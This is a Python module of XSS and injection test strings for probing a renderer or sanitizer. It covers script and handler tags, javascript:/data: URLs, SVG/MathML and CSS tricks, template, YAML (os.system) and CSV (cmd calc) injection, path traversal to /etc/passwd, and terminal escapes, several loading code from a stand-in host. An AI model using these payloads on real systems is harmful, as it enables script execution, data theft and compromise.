"""Texts that would run a script, or fetch something, where a program lets them out as they came in.

By family: each knows one way out of the place where a text stands (an element, an attribute, an address, a style sheet, a
script, a template, Markdown, YAML, CSV). What runs calls `alert`; what fetches asks `https://ailleurs.invalid/`."""

RUN = "alert(1)"
AWAY = "https://ailleurs.invalid/"

# Elements that run or fetch by themselves, and ways to spell a tag that careless filters do not know.
ELEMENTS = [
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script >{RUN}</script >", f"<script/x>{RUN}</script>",
    f"<script\t>{RUN}</script>", f"<script\n>{RUN}</script>", f"<script\x0c>{RUN}</script>", f"<script\x00>{RUN}</script>",
    f"<<script>{RUN}//<</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script>{RUN}//", f"<script>{RUN}<!--",
    f"<script src={AWAY}a.js></script>", "<script src=//ailleurs.invalid/a.js></script>", "<script src=data:,alert(1)></script>",
    f"<script type=module>{RUN}</script>", f"<script><![CDATA[{RUN}]]></script>", f"<script xmlns='x'>{RUN}</script>",
    f"<iframe src=javascript:{RUN}></iframe>", f"<iframe srcdoc='<script>{RUN}</script>'></iframe>", f"<iframe src={AWAY}>",
    "<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;>", f"<frameset><frame src=javascript:{RUN}></frameset>",
    f"<object data=javascript:{RUN}></object>", f"<object data={AWAY}a.swf></object>", f"<embed src=javascript:{RUN}>",
    f"<embed src={AWAY}a>", f"<applet code=a codebase={AWAY}>", f"<base href={AWAY}>", f"<base href=javascript:{RUN}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>", f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{RUN}</script>'>", f"<link rel=stylesheet href={AWAY}a.css>",
    f"<link rel=prefetch href={AWAY}>", f"<link rel=dns-prefetch href={AWAY}>", f"<link rel=import href={AWAY}>",
    f"<style>@import '{AWAY}a.css'</style>", f"<style>body{{background:url({AWAY})}}</style>", f"<img src={AWAY}a.png>",
    f"<img srcset='{AWAY}a.png 2x'>", f"<picture><source srcset={AWAY}a.png><img></picture>", f"<video src={AWAY}a.mp4>",
    f"<video poster={AWAY}a.png></video>", f"<audio src={AWAY}a.mp3 autoplay>", f"<track src={AWAY}a.vtt>",
    f"<input type=image src={AWAY}a.png>", f"<body background={AWAY}a.png>", f"<table background={AWAY}a.png>",
    f"<form action=javascript:{RUN}><input type=submit>", f"<form id=f></form><button form=f formaction=javascript:{RUN}>x",
    f"<a href=javascript:{RUN}>x</a>", f"<a ping={AWAY} href=#>x</a>", f"<area href=javascript:{RUN}>",
    f"<isindex action=javascript:{RUN} type=submit>", f"<template><script>{RUN}</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">", f"<textarea></textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", f"</style><script>{RUN}</script>",
    f"</script><script>{RUN}</script>", f"</noscript><script>{RUN}</script>", f"</svg><script>{RUN}</script>",
    f"--><script>{RUN}</script>", f"--!><script>{RUN}</script>", f"]]><script>{RUN}</script>", f"?><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>", f"<!--><img src=x onerror={RUN}>-->", f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml-stylesheet href=\"javascript:{RUN}\"?>", f"<!ENTITY x \"<script>{RUN}</script>\">", f"<xss onclick={RUN}>x</xss>",
    "\ufeff<script>alert(1)</script>", "＜script＞alert(1)＜/script＞", "‹script›alert(1)‹/script›", "\u202e>tpircs<alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "&#0000060script>alert(1)</script>", "&LT;script&GT;alert(1)&LT;/script&GT;", "<scrıpt>alert(1)</scrıpt>",
    "<ſcript>alert(1)</ſcript>", "<plaintext>", "<xmp><script>alert(1)</script></xmp>", "<dialog open>x",
]

# Handlers: each element with an event that comes by itself or at a touch.
HANDLERS = [
    f"<{element} {event}={RUN}>" for element, event in [
        ("img src=x", "onerror"), ("img src=x", "ONERROR"), ("img src", "onerror"), ("img/src=x", "onerror"), ("image src=x", "onerror"),
        ("img src=../images/point.png", "onload"), ("body", "onload"), ("body", "onpageshow"), ("body", "onhashchange"),
        ("body", "onfocus"), ("body", "onscroll"), ("body", "onresize"), ("svg", "onload"), ("svg/", "onload"), ("svg\n", "onload"),
        ("video src=x", "onerror"), ("video><source", "onerror"), ("audio src=x", "onerror"), ("iframe", "onload"),
        ("object data=x", "onerror"), ("embed src=x", "onerror"), ("link rel=stylesheet href=x", "onerror"), ("script src=x", "onerror"),
        ("style", "onload"), ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"),
        ("button autofocus", "onfocus"), ("a href=# autofocus", "onfocus"), ("p tabindex=1 autofocus", "onfocus"),
        ("details open", "ontoggle"), ("dialog open", "onclose"), ("marquee", "onstart"), ("p", "onmouseover"), ("p", "onpointerenter"),
        ("p", "onclick"), ("p", "oncopy"), ("p", "oncontextmenu"), ("p contenteditable", "oninput"), ("p draggable=true", "ondragstart"),
        ("p style=animation-name:x", "onanimationstart"), ("p style=transition:1s", "ontransitionend"), ("p", "onwheel"),
        ("p", "onbeforematch"), ("input", "onbeforeinput"), ("form", "onsubmit"), ("x", "onauxclick"), ("track src=x", "onerror"),
        ("input type=image src=x", "onerror"), ("keygen autofocus", "onfocus"), ("p popover id=p", "onbeforetoggle"),
    ]
] + [
    f"<img src=x onerror={RUN}", f"<img src=x onerror={RUN}//", f"<img src=x onerror=\"{RUN}\">", f"<img src=x onerror='{RUN}'>",
    f"<img src=x onerror=`{RUN}`>", f"<img src=x onerror\n=\n{RUN}>", f"<img src=x\x0conerror={RUN}>", f"<img src=x\tonerror={RUN}>",
    f"<img src=x/onerror={RUN}>", f"<img src=\"x\"onerror={RUN}>", f"<img \"\"\"><script>{RUN}</script>\">", "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=&#x61lert(1)>", "<img src=x onerror=\\u0061lert(1)>", "<img src=x onerror=alert`1`>",
    "<img src=x onerror=window['al'+'ert'](1)>", "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>", f"<<img src=x onerror={RUN}>",
    f"<img src=x:{RUN} onerror=eval(src)>", f"<a\x00 onclick={RUN}>x</a>", f"<br onclick={RUN}>", f"<br/onmouseover={RUN}>",
]

# Out of an attribute.
ATTRIBUTES = [
    f'" onmouseover="{RUN}', f"' onmouseover='{RUN}", f'" onfocus={RUN} autofocus="', f"' onfocus={RUN} autofocus='",
    f"\" autofocus onfocus={RUN} x=\"", f'"><script>{RUN}</script>', f"'><script>{RUN}</script>", f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>", f'"/><svg/onload={RUN}>', f'x" onload="{RUN}', f'x"onclick={RUN} "',
    f'" style="background:url({AWAY})', f'" style=animation-name:x onanimationstart={RUN} "', f'" srcdoc="<script>{RUN}</script>',
    f'" href="javascript:{RUN}', f'" src="{AWAY}', f"` onmouseover=`{RUN}", f'&quot; onmouseover=&quot;{RUN}',
    f"&#34; onmouseover=&#34;{RUN}", f'\\" onmouseover=\\"{RUN}', f'" accesskey=x onclick={RUN} "', f'"\tonmouseover={RUN} x="',
    f'"\nonmouseover={RUN} x="', f'"/onmouseover={RUN}/x="', f'x onmouseover={RUN}', f'x\' onmouseover={RUN} \'',
    f'" http-equiv=refresh content="0;{AWAY}', f"1\"}} onmouseover=\"{RUN}", f"'-{RUN}-'", f"\"-{RUN}-\"", f"\\'-{RUN}//",
    f"\";{RUN}//", f"';{RUN}//", f"</script><svg onload={RUN}>", f"${{{RUN}}}", f"`+{RUN}+`", f"\u2028{RUN}", f"\u2029{RUN}//",
    f"*/{RUN}/*", f"\"]}};{RUN}//", f"\\\";{RUN}//", f"\"}}</script><script>{RUN}</script>",
]

# Addresses.
ADDRESSES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"\tjavascript:{RUN}", f"\njavascript:{RUN}",
    f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"java\rscript:{RUN}", f"javascript\t:{RUN}", f"javascript\n:{RUN}",
    f"\x01javascript:{RUN}", f"\x1fjavascript:{RUN}", f"\u00a0javascript:{RUN}", f"\u2003javascript:{RUN}",
    f"\ufeffjavascript:{RUN}", f"\u200bjavascript:{RUN}", f"javascript&colon;{RUN}", f"javascript&#58;{RUN}",
    f"javascript&#x3a;{RUN}", f"java&Tab;script:{RUN}", f"java&NewLine;script:{RUN}", f"java&#9;script:{RUN}",
    f"java&#10;script:{RUN}", f"java&#x0A;script:{RUN}", f"&#106;avascript:{RUN}", f"&#x6A;avascript:{RUN}",
    f"&#0000106avascript:{RUN}", f"java\\script:{RUN}", f"javascript\\:{RUN}", f"javascript%3A{RUN}", f"%6Aavascript:{RUN}",
    f"java%0ascript:{RUN}", f"javascript:%61lert(1)", f"javascript://x%0a{RUN}", f"javascript://exemple.fr/%0d%0a{RUN}",
    f"javascript:/*x*/{RUN}", f"javascript:\"\\u0061lert\"", f"javascript:void({RUN})", f"javascript:{RUN}//https://exemple.fr/",
    f"https:javascript:{RUN}", f"https://x/\njavascript:{RUN}", f"feed:javascript:{RUN}", f"view-source:javascript:{RUN}",
    f"jar:javascript:{RUN}!/", f"livescript:{RUN}", f"mocha:{RUN}", "vbscript:msgbox(1)", "VBScript:msgbox(1)",
    "vb\tscript:msgbox(1)", f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)",
    f"DATA:text/html,<script>{RUN}</script>", f" data:text/html,<script>{RUN}</script>", f"data:,{RUN}",
    f"data:application/javascript,{RUN}", f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=",
    f"data:image/png,<script>{RUN}</script>", f"data:text/xml,<script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script>",
    "javascript:\u0e33=alert(1)",
    f"blob:https://exemple.fr/{RUN}", "file:///etc/passwd", "filesystem:https://exemple.fr/x", "about:blank", "chrome://settings",
    "ms-settings:", "C:\\x", "\\\\ailleurs.invalid\\x", "//ailleurs.invalid/a.png", "/\\ailleurs.invalid/a.png",
    "\\/ailleurs.invalid/a.png", "https:ailleurs.invalid/a.png", "https:\\\\ailleurs.invalid\\a.png", f"{AWAY}a.png",
    "///ailleurs.invalid/a.png", "http://exemple.fr@ailleurs.invalid/", "../../../../etc/passwd", "..%2f..%2fetc/passwd",
    "..\\..\\etc\\passwd", "%2e%2e/%2e%2e/etc/passwd", "....//....//etc/passwd", "/etc/passwd", "images/../../../etc/passwd",
    "images/point.png\x00.md", "images/point.png?x=\"onerror=alert(1)", "images/point.png#\"><script>alert(1)</script>",
    f"mailto:a@b.fr\"onclick=\"{RUN}", f"https://exemple.fr/\" onmouseover=\"{RUN}", f"https://exemple.fr/'onmouseover='{RUN}",
    f"https://exemple.fr/<script>{RUN}</script>", f"tel:1\"onclick=\"{RUN}", "https://exemple.fr/\u202egnp.exe",
    "#\" onclick=\"alert(1)", "?\"><script>alert(1)</script>",
]

SVG_AND_MATHML = [
    f"<svg><script>{RUN}</script></svg>", f"<svg><script href=data:,{RUN} /></svg>",
    f"<svg><script xlink:href=data:,{RUN} /></svg>", f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=20>x</text></a></svg>",
    f"<svg><set attributeName=onmouseover to={RUN}></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><animate onend={RUN} attributeName=x dur=1s>", f"<svg><animatetransform onbegin={RUN} attributeName=transform>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RUN}</script></svg>#x'/></svg>",
    f"<svg><use href={AWAY}a.svg#x /></svg>", f"<svg><image href={AWAY}a.png /></svg>",
    f"<svg><image href=x onerror={RUN}></svg>", f"<svg><feImage href={AWAY}a.png /></svg>",
    f"<svg><foreignObject><script xmlns=http://www.w3.org/1999/xhtml>{RUN}</script></foreignObject></svg>",
    f"<svg><foreignObject><iframe src=javascript:{RUN}></foreignObject></svg>", f"<svg><style>@import '{AWAY}'</style></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>", f"<svg><title><script>{RUN}</script></title></svg>",
    f"<svg><desc><img src=x onerror={RUN}></desc></svg>", f"<svg><p><style><g title=\"</style><img src=x onerror={RUN}>\">",
    f"<svg/onload={RUN}//", f"<svg onload={RUN}", f"<svg><discard onbegin={RUN}>",
    f"<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{RUN}</handler></svg>",
    f"<text onclick={RUN}>x</text>", f"</text></g></svg><script>{RUN}</script>", f"</title><script>{RUN}</script><title>",
    f"</desc></svg><img src=x onerror={RUN}>", f"<math href=javascript:{RUN}>x</math>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<math><mi><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>", f"<math><mglyph src={AWAY}a.png>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={RUN} src>\">",
    f"<style>@&#105;mport '{AWAY}a.css'</style>", f"<style>@\\69 mport '{AWAY}b.css'</style>",
    f"<style>@im<!-- -->po<![CDATA[r]]>t '{AWAY}c.css'</style>",
    f"<rect width='9' height='9' style='mask:u\\72l({AWAY}d.svg#x)'/>",
    "<image width='9' height='9' href='https:ailleurs.invalid/e.png'/>",
    "<image width='9' height='9' href='/\\ailleurs.invalid/f.png'/>",
    f"<svg h:=' a=\"' onload='{RUN}' b='\"'/>",
]

STYLES = [
    f"x{{}}body{{background:url({AWAY})}}", f"red;background:url({AWAY})", f"}}body{{background:url({AWAY})}}",
    f"</style><script>{RUN}</script>", f"expression({RUN})", f"@import '{AWAY}a.css';", f"url(javascript:{RUN})",
    f"-moz-binding:url({AWAY}a.xml#x)", f"behavior:url({AWAY}a.htc)", f"\\75rl({AWAY})", f"'}}*{{background:url({AWAY})}}'",
    f"var(--x,url({AWAY}))", f"image-set('{AWAY}a.png' 1x)", f"*/body{{background:url({AWAY})}}/*", f"\"{AWAY}\";}}",
    f"x;}}@font-face{{font-family:a;src:url({AWAY})}}",
]

TEMPLATES = [
    "{{ 7 * 7 }}", "{{ publication.titre|safe }}", "{% include 'page.html' %}", "{% raw %}", "{# x #}",
    "{{ '<script>alert(1)</script>'|safe }}", "{% for x in range(9) %}<script>alert(1)</script>{% endfor %}",
    "{{ ''.__class__.__mro__ }}", "{{ self }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{=7*7}}", "[[7*7]]",
    "{{constructor.constructor('alert(1)')()}}", "{%- set x = 1 -%}", "}}<script>alert(1)</script>{{",
    "%}<script>alert(1)</script>{%", "{{ x", "@{alert(1)}",
]

MARKDOWN = [
    f"[x](javascript:{RUN})", f"[x](<javascript:{RUN}>)", f"[x]( javascript:{RUN} )", f"[x](java\\script:{RUN})",
    f"[x](&#106;avascript:{RUN})", f"[x](javascript&colon;{RUN})", f"[x](JAVASCRIPT:{RUN} 'y')",
    f"[x](https://exemple.fr '\" onmouseover=\"{RUN}')", f"[x](https://exemple.fr \"y' onmouseover='{RUN}\")",
    f"[x](https://exemple.fr/\"onmouseover=\"{RUN})", f"[x](data:text/html,<script>{RUN}</script>)", f"[x](vbscript:msgbox)",
    f"![x](javascript:{RUN})", f"![x]({AWAY}a.png)", f"![x](//ailleurs.invalid/a.png)",
    f"![\" onerror=\"{RUN}](../images/point.png)", f"![x](../images/point.png '\" onerror=\"{RUN}')", f"![x](x\"onerror=\"{RUN})",
    f"![x](data:image/svg+xml,<svg/onload={RUN}>)", f"[![x]({AWAY}a.png)](javascript:{RUN})", f"<javascript:{RUN}>",
    f"<JavaScript:{RUN}>", f"<java&#9;script:{RUN}>", f"<https://exemple.fr/\"onmouseover=\"{RUN}>",
    f"<a@b.fr\"onmouseover=\"{RUN}>", f"https://exemple.fr/\"onmouseover=\"{RUN}", f"www.exemple.fr\"onmouseover=\"{RUN}",
    f"a@b.fr\"onmouseover=\"{RUN}", f"javascript:{RUN}", f"[x][r]\n\n[r]: javascript:{RUN}",
    f"[x][r]\n\n[r]: <javascript:{RUN}> '\"'", f"[r]: https://exemple.fr '\" onclick=\"{RUN}'\n\n[r]",
    f"x[^\"><script>{RUN}</script>]\n\n[^\"><script>{RUN}</script>]: y", f"x[^1]\n\n[^1]: <img src=x onerror={RUN}>",
    f"`<script>{RUN}</script>`", f"``` \" onclick=\"{RUN}\nx\n```", f"~~~ html\n<script>{RUN}</script>\n~~~",
    f"    <script>{RUN}</script>", f"\\<script>{RUN}\\</script>", f"&lt;img src=x onerror={RUN}&gt;",
    f"## x {{#\" onclick=\"{RUN}}}", f"## x {{onclick={RUN}}}", f"## <img src=x onerror={RUN}>",
    f"| <script>{RUN}</script> |\n|---|\n| <img src=x onerror={RUN}> |",
    f"| `<script>{RUN}</script>` |\n|---|\n| \\<img src=x onerror={RUN}> |", f"- [x] <img src=x onerror={RUN}>",
    f"> <script>{RUN}</script>", f"**<img src=x onerror={RUN}>**", f"~~<svg onload={RUN}>~~", f"<!-- --><script>{RUN}</script>",
    f"<br onclick={RUN}>", f"::: focus {{titre=\"</h2><script>{RUN}</script>\"}}\nx\n:::",
    f"::: focus {{onclick=\"{RUN}\"}}\nx\n:::", f"::: focus {{#a\"onclick=\"{RUN}}}\nx\n:::",
    f"::: focus {{.a\"onclick=\"{RUN}}}\nx\n:::", f"::: \"><script>{RUN}</script>\n:::", f"::: ../../page {{x=y}}\nx\n:::",
    f"::: script\n{RUN}\n:::", f":chiffre[\"><script>{RUN}</script>]", f":cellule[<img src=x onerror={RUN}>/a/b]",
    f":script[{RUN}]", f":x[y]{{onclick=\"{RUN}\"}}", f"[x]{{onclick={RUN}}}",
    f"<div markdown=1>\n\n<script>{RUN}</script>\n\n</div>", f"<script\n\n>{RUN}</script>", f"<p><script>{RUN}\n\n</script>",
    f"<https://exemple.fr>\n<script>{RUN}</script>", f"[a](<b>c\"onclick={RUN})", f"[x](https://exemple.fr\\\" onclick={RUN})",
]

YAML_AND_CSV = [
    f"!!js/function 'function(){{{RUN}}}'", "!!python/object/apply:os.system ['x']", "&a [*a]", "*x", "%TAG ! tag:x", "? x",
    f"'\"><script>{RUN}</script>", f"\"'><script>{RUN}</script>", f"|\n  <script>{RUN}</script>", f"=HYPERLINK(\"{AWAY}\";\"x\")",
    "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0", "@SUM(1)*cmd|' /C calc'!A0",
    f"=IMPORTXML(\"{AWAY}\";\"//a\")", "\t=1+1", "x;<script>alert(1)</script>", "x\"\"><script>alert(1)</script>",
    "{\"__proto__\": {\"x\": 1}}", "__proto__", "constructor", "toString", "\u202ealert(1)\u202c", "\u2066<script>\u2069",
    "a\u0000<script>alert(1)</script>", "<\u0000script>alert(1)</script>", "\ud7ff<script>alert(1)</script>\ue000",
    "é" * 200 + "<script>alert(1)</script>", "A" * 5000 + "\"><img src=x onerror=alert(1)>",
]

# Characters that no page may hold, that end a line, or that hide: as they are, by number, and in the places of letters.
HIDDEN = [
    form.format(c, f"{ord(c):x}") for c in "\0\x01\x0b\x0c\x1b\x7f\x85\u2028\u200e\u202e\u2066\ufeff\ufffe\uffff"
    for form in ("a{0}b", "a&#x{1};b", "a&#x{1};<script>alert(1)</script>")
] + ["\x1b]0;alert(1)\x07", "\x1b[2J", "::error file=a::alert(1)", "##[error]alert(1)", "%0A::error::alert(1)", "]]>", "-->"]

FAMILIES = {
    "éléments": ELEMENTS, "gestionnaires": HANDLERS, "attributs": ATTRIBUTES, "adresses": ADDRESSES, "SVG et MathML": SVG_AND_MATHML,
    "styles": STYLES, "gabarits": TEMPLATES, "Markdown": MARKDOWN, "YAML et CSV": YAML_AND_CSV,
    "caractères cachés": HIDDEN,
}
PAYLOADS = list(dict.fromkeys(payload for family in FAMILIES.values() for payload in family))
